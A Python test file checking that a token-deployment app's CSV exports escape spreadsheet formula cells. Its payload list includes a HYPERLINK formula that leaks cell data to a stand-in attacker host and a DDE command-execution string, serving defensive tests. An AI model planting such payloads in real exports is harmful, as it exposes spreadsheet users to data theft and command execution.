"""CSV exports neutralise formula cells (CSV injection): a cell a spreadsheet would evaluate is
written with a leading single quote, in the deployment audit trail and the compliance exports."""
from __future__ import annotations

import csv
import io

import pytest

from biatec.core.csv_export import csv_text, safe_cell

MALICIOUS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
             "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1"]
ERC20 = {"network": "evm-local", "name": "Acme", "symbol": "ACME", "decimals": 18, "initial_supply": "1000",
         "cap": "5000"}


@pytest.mark.parametrize("value", MALICIOUS)
def test_formula_cells_are_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value
    (cell,) = next(csv.reader(io.StringIO(csv_text(["c"], [[value]]).split("\r\n", 1)[1])))
    assert cell == "'" + value


@pytest.mark.parametrize("value", ["plain", "user:42", "0xabc", "a=b", "", "queued", "2026-01-01T00:00:00+00:00"])
def test_harmless_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_numbers_and_none_stay_data():
    assert [safe_cell(v) for v in (3, -3, 1.5, None, True)] == [3, -3, 1.5, "", True]
    assert csv_text(["n", "m"], [[-3, None]]) == "n,m\r\n-3,\r\n"


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
@pytest.mark.chain
@pytest.mark.usefixtures("anvil_node")  # create asks the node first; nothing is deployed (no commit here)
def test_deployment_audit_trail_csv_neutralises_a_malicious_cancel_reason(user_factory):
    _, client = user_factory("csv.injection")
    reason = MALICIOUS[0]
    created = client.post("/api/v1/token/erc20-mintable/create", ERC20, format="json")
    assert created.status_code == 202, created.content
    deployment_id = created.json()["id"]
    cancelled = client.post(f"/api/v1/token/deployments/{deployment_id}/cancel", {"reason": reason}, format="json")
    assert cancelled.status_code == 200, cancelled.content
    rows = _rows(client.get(f"/api/v1/token/deployments/{deployment_id}/audit-trail?format=csv"))
    assert [r["to_status"] for r in rows] == ["queued", "cancelled"]
    assert rows[1]["reason"] == "'" + reason
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row.values() if cell)


@pytest.mark.django_db
@pytest.mark.chain
@pytest.mark.usefixtures("anvil_node")
def test_compliance_audit_log_csv_neutralises_a_client_chosen_correlation_id(user_factory):
    _, client = user_factory("csv.injection")
    created = client.post("/api/v1/token/erc20-mintable/create", ERC20, format="json", HTTP_X_CORRELATION_ID="-2-3")
    assert created.status_code == 202, created.content
    assert created["X-Correlation-ID"] == "-2-3"
    rows = _rows(client.get("/api/v1/compliance/audit-log?format=csv"))
    assert "'-2-3" in {r["correlation_id"] for r in rows}
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row.values() if cell)
